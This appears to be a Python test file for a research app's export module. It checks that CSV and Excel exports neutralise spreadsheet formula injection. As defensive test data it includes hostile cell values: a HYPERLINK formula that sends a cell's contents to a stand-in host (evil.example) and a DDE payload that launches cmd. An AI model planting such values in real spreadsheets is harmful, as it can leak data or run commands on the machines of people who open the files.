"""Every CSV or Excel export is safe to open (issue 8): cells that a spreadsheet would run
as a formula are neutralised, numbers stay numbers, CSV is UTF-8 with BOM, and every
export of the app and the CLI goes through research/base/exports.py."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from research.base import exports, studies
from research.base.store import connect
from research.cli import main
from research.desk import calls, team
from research.selection import sampling

ROOT = Path(__file__).resolve().parents[2]

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A2,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "=",
    "-",
    "+86 138 0013 8000",
]
NUMBERS_AS_TEXT = ["-12.50", "+12", "-0.5", "1e5", "-.5", "12", "007"]
HARMLESS = ["Café Müller", "上海华创医院", "a=b", "x-1", "mail@example.cn", "", "'quoted"]


def _cells(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM, for Excel"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet does with a CSV cell: = + - @ first (after spaces), or a tab
    or carriage return, makes a formula, unless the cell is a plain number."""
    return bool(re.match(r"^( *[=+\-@]|[\t\r])", cell)) and not re.match(
        r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$", cell
    )


# ---------------------------------------------------------------- the module


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_that_would_run_gets_a_quote_in_front(cell):
    assert exports.neutral(cell) == "'" + cell
    assert not runs_as_formula(exports.neutral(cell))


@pytest.mark.parametrize("cell", NUMBERS_AS_TEXT + HARMLESS)
def test_numbers_and_ordinary_text_are_left_alone(cell):
    assert exports.neutral(cell) == cell


def test_csv_neutralises_text_cells_and_headers_but_numbers_stay_numbers():
    frame = pd.DataFrame(
        {
            "name": [*HOSTILE, "Café"],
            "amount": [-12.5] * len(HOSTILE) + [3.0],
            "count": [-3] * len(HOSTILE) + [4],
            "as_text": ["-7.25"] * len(HOSTILE) + ["=9"],
            "@header": ["x"] * (len(HOSTILE) + 1),
        }
    )
    rows = _cells(exports.csv_bytes(frame))
    assert rows[0] == ["name", "amount", "count", "as_text", "'@header"]
    body = rows[1:]
    # a carriage return inside a cell is written as a line feed, in quotes
    assert [r[0] for r in body] == ["'" + c.replace("\r", "\n") for c in HOSTILE] + ["Café"]
    assert {r[1] for r in body} == {"-12.5", "3.0"} and {r[2] for r in body} == {"-3", "4"}
    assert [r[3] for r in body] == ["-7.25"] * len(HOSTILE) + ["'=9"]
    assert not any(runs_as_formula(c) for row in rows for c in row)
    assert exports.neutralise(frame)["amount"].dtype == frame["amount"].dtype


def test_csv_text_for_a_terminal_has_no_bom():
    text = exports.csv_text(pd.DataFrame({"a": ["=1"]}))
    assert text == "a\n'=1\n"


def test_xlsx_writes_text_as_text_cells_never_formulas(tmp_path):
    frame = pd.DataFrame(
        {
            "name": HOSTILE + ["Bell\x07 and NUL\x00 gone"],
            "amount": [-12.5] * len(HOSTILE) + [Decimal("3.10")],
            "when": [date(2024, 3, 5)] * len(HOSTILE) + [datetime(2024, 3, 6, 13, 45)],
            "flag": [True] * len(HOSTILE) + [False],
            "missing": [None] * (len(HOSTILE) + 1),
        }
    )
    path = tmp_path / "out.xlsx"
    assert exports.write(frame, path) == len(frame)
    sheet = load_workbook(path).active
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]] == ["name", "amount", "when", "flag", "missing"]
    cells = [c for row in rows for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    # (XML reads a carriage return back as a line feed)
    written = [c.replace("\r", "\n") for c in HOSTILE]
    assert [row[0].value for row in rows[1:]] == written + ["Bell and NUL gone"]
    assert rows[1][1].value == -12.5 and rows[-1][1].value == pytest.approx(3.1)
    assert rows[1][2].value == datetime(2024, 3, 5) and rows[-1][3].value is False
    assert rows[1][4].value is None


def test_write_chooses_csv_or_excel_by_suffix(tmp_path):
    frame = pd.DataFrame({"a": ["=1"]})
    exports.write(frame, tmp_path / "x.csv")
    exports.write(frame, tmp_path / "x.XLSX")
    assert _cells((tmp_path / "x.csv").read_bytes()) == [["a"], ["'=1"]]
    assert load_workbook(tmp_path / "x.XLSX").active["A2"].value == "=1"


@pytest.fixture(scope="module")
def con():
    connection = duckdb.connect()
    yield connection
    connection.close()


@settings(max_examples=80, deadline=None)
@given(
    st.lists(st.text(st.sampled_from(list("=+-@ \t\r.0123456789eEax,\"'")), max_size=8), min_size=1)
)
def test_the_duckdb_fast_path_neutralises_exactly_as_python_does(tmp_path_factory, con, values):
    path = tmp_path_factory.getbasetemp() / "copy.csv"
    con.execute("CREATE OR REPLACE TABLE t (i INTEGER, v VARCHAR, n DECIMAL(18, 2))")
    con.executemany("INSERT INTO t VALUES (?, ?, ?)", [[i, v, -1.5] for i, v in enumerate(values)])
    exports.copy_csv(con.sql("SELECT v, n FROM t ORDER BY i"), path)
    rows = _cells(path.read_bytes())
    assert rows[0] == ["v", "n"]
    assert [r[0] for r in rows[1:]] == [exports.neutral(v) for v in values]
    assert {r[1] for r in rows[1:]} <= {"-1.50"}


def test_the_fast_path_writes_one_mark_and_never_half_a_file(tmp_path, con):
    path = tmp_path / "out.csv"
    exports.copy_csv(con.sql("SELECT 1 AS customer_id, 'x' AS status"), path)
    data = path.read_bytes()
    assert data.count(b"\xef\xbb\xbf") == 1 and _cells(data) == [
        ["customer_id", "status"],
        ["1", "x"],
    ]
    assert not [f for f in tmp_path.iterdir() if f.name != "out.csv"], "no temporary file left"
    path.write_text("the earlier file")
    failing = con.sql("SELECT CAST('not a number' AS INTEGER) AS n")  # fails while writing
    with pytest.raises(duckdb.Error):
        exports.copy_csv(failing, path)
    assert path.read_text() == "the earlier file", "a failed export leaves the old file whole"
    assert [f.name for f in tmp_path.iterdir()] == ["out.csv"]
    with pytest.raises(ValueError):  # a quoted header name would carry the mark inside quotes
        exports.copy_csv(con.sql('SELECT 1 AS "a,b"'), path)


# ---------------------------------------------------------------- every export uses it


def test_no_export_writes_csv_or_excel_by_itself():
    """A CSV or Excel file made anywhere but research/base/exports.py would skip the
    neutralisation. The demo writes the export *files it imports* (its input data)."""
    allowed = {ROOT / "research/base/exports.py", ROOT / "research/demo/company.py"}
    pattern = re.compile(r"\.to_csv\(|\.to_excel\(|csv\.writer\(|\.write_csv\(|openpyxl")
    offenders = [
        f"{path.relative_to(ROOT)}:{n}"
        for folder in ("research", "screen", "pages")
        for path in sorted((ROOT / folder).rglob("*.py"))
        if path not in allowed
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if pattern.search(line)
    ]
    offenders += [
        f"app.py:{n}"
        for n, line in enumerate((ROOT / "app.py").read_text().splitlines(), 1)
        if pattern.search(line)
    ]
    assert offenders == []


EVIL = '=HYPERLINK("http://evil.example","x")'


@pytest.fixture
def hostile_demo(demo_db) -> Path:
    """The demo company with formulas in names, the call log, findings and the team."""
    store = connect(demo_db)
    try:
        demo = studies.get_study(store, "demo")

        def poison(cur) -> None:
            cur.execute("UPDATE customers SET name = ?, contact_person = ?", [EVIL, "@evil"])
            cur.execute("UPDATE call_attempts SET note = ?", ["+cmd|' /C calc'!A0"])
            cur.execute("UPDATE findings SET interviewer = ?", ["-1+1"])

        store.write(poison)
        team.add_member(store, "=evil member", "viewer", actor="tester")
        assert len(calls.attempts(store, demo)) > 0
    finally:
        store.close()
    return demo_db


def _run(db: Path, *args: str) -> str:
    result = CliRunner().invoke(main, ["--db", str(db), *args])
    assert result.exit_code == 0, result.output
    return result.output


@pytest.mark.parametrize(
    "command, hostile",
    [
        (("identify", "--out"), "'" + EVIL),
        (("targets", "export", "--out"), "'" + EVIL),
        (("calls", "export", "--out"), "'+cmd|' /C calc'!A0"),
        (("findings", "export", "--out"), "'-1+1"),
        (("taxonomy", "export", "--out"), None),
    ],
)
def test_every_cli_export_is_neutralised(hostile_demo, tmp_path, command, hostile):
    out = tmp_path / "out.csv"
    _run(hostile_demo, *command, str(out))
    rows = _cells(out.read_bytes())
    assert len(rows) > 1
    assert not [c for row in rows for c in row if runs_as_formula(c)]
    if hostile:
        assert any(hostile in row for row in rows)
    # the same as a workbook: text cells, never formulas
    book = tmp_path / "out.xlsx"
    _run(hostile_demo, *command, str(book))
    cells = [c for row in load_workbook(book).active.iter_rows() for c in row]
    assert len(cells) > len(rows[0]) and not [c for c in cells if c.data_type == "f"]


def test_the_team_csv_is_neutralised(hostile_demo):
    text = _run(hostile_demo, "team")
    assert "'=evil member,viewer" in text
    assert not [c for row in csv.reader(io.StringIO(text)) for c in row if runs_as_formula(c)]


def test_the_app_exports_are_neutralised(hostile_demo):
    """What the Defectors and Call desk pages offer for download."""
    store = connect(hostile_demo)
    try:
        demo = studies.get_study(store, "demo")
        for data in (
            sampling.export_csv(sampling.target_list(store, demo)),
            calls.export_calls_csv(store, demo),
        ):
            rows = _cells(data)
            assert len(rows) > 1
            assert not [c for row in rows for c in row if runs_as_formula(c)]
    finally:
        store.close()
